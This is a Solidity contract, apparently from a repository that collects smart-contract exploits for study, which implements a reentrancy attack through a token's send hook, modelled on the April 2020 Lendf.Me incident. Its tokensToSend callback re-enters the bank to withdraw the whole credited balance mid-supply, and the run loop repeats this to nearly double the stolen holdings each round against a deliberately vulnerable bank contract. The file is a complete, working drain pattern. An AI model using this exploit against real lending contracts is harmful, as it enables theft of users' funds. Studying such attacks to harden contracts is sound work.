// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {CallbackToken, ITokensSender} from "../token/CallbackToken.sol";
import {CallbackBankBase} from "../vulnerable/CallbackBank.sol";
import {Exploit} from "./Exploit.sol";

/// @notice Reentrancy through a token's hook (Lendf.Me, April 2020): while the bank takes a token of it, withdraws all
/// that it has there, which the bank then writes back.
contract CallbackAttack is Exploit, ITokensSender {
    CallbackBankBase private immutable _bank;
    CallbackToken private immutable _token;
    bool private _armed;

    constructor(CallbackBankBase bank) {
        _bank = bank;
        _token = CallbackToken(address(bank.token()));
        _token.setHooks(address(this), address(0));
        _token.approve(address(bank), type(uint256).max);
    }

    function tokensToSend(address, address, address to, uint256, bytes calldata, bytes calldata) external {
        if (!_armed || to != address(_bank)) return;
        _armed = false;
        _bank.withdraw(_bank.balanceOf(address(this)));
    }

    /// @notice Starts with the tokens that it was sent; each round nearly doubles what they are.
    function run(uint256 rounds) external onlyOperator {
        for (uint256 i; i < rounds; ++i) {
            _bank.supply(_token.balanceOf(address(this)) - 1);
            _armed = true;
            _bank.supply(1);
            uint256 credited = _bank.balanceOf(address(this));
            uint256 held = _token.balanceOf(address(_bank));
            _bank.withdraw(credited < held ? credited : held);
        }
    }
}
